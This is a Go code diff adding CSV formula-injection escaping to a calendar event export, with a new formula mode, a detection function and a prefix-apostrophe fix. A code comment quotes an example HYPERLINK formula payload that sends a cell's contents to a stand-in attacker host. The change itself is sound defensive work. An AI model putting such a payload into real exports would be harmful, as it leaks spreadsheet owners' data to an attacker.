@@ -7,13 +7,44 @@ import (
 	"unicode/utf8"
 )
 
+// CSVFormulas is how a CSV export writes a text cell that a spreadsheet
+// would run as a formula: one that begins with =, +, -, @, a tab or a
+// carriage return (OWASP, "CSV Injection"). A title such as
+// =HYPERLINK("http://evil.example/?"&A1, "click") would otherwise run in
+// the owner's spreadsheet, and a title can come from anywhere an import
+// or a shared calendar brings it.
+type CSVFormulas uint8
+
+const (
+	// CSVFormulasEscaped writes such a cell with a leading ' (the default):
+	// spreadsheets show the text and run nothing; the ' is the cell's
+	// first character for a program that reads the file.
+	CSVFormulasEscaped CSVFormulas = iota
+	// CSVFormulasRaw writes every cell as stored (formulas=raw), for a
+	// script that reads the file.
+	CSVFormulasRaw
+)
+
+// IsCSVFormula reports whether a cell of text s would be read as a formula
+// by a spreadsheet: it begins with =, +, -, @, a tab or a carriage return.
+func IsCSVFormula(s string) bool {
+	return s != "" && strings.IndexByte("=+-@\t\r", s[0]) >= 0
+}
+
 // AppendCSVRecord appends e's line of a CSV export (DESIGN.md, Export): text
 // as it is, times as in JSON, true and false, numbers, and an empty cell for
 // null, each cell as encoding/csv's Writer with UseCRLF writes it (RFC 4180:
 // quoted when it holds a quote, a comma, a line break, or starts with white
 // space; CRLF line ends). Written in place, a row's times, numbers and texts
 // make no strings of their own (a year's export is 100,000 rows).
-func AppendCSVRecord(b []byte, e *Event) []byte {
+//
+// With CSVFormulasEscaped, a text cell that IsCSVFormula gets a leading '.
+// Only text cells can: every other cell is the server's own writing, a
+// time (the API takes years 0001 to 9999, so four digits come first), true
+// or false, or a number that is never negative (ids, and priority 0 to 3,
+// held so by the database), so none begins with one of those characters,
+// and a number stays a number.
+func AppendCSVRecord(b []byte, e *Event, formulas CSVFormulas) []byte {
 	for i := range EventFields {
 		if i > 0 {
 			b = append(b, ',')
@@ -22,6 +53,9 @@ func AppendCSVRecord(b []byte, e *Event) []byte {
 		switch f.Type {
 		case TypeText, TypeEnum:
 			s, _ := f.getText(e)
+			if formulas == CSVFormulasEscaped && IsCSVFormula(s) {
+				s = "'" + s // rare: the one string a row may make
+			}
 			b = appendCSVField(b, s)
 		case TypeTime:
 			if t := f.getTime(e); t != nil {
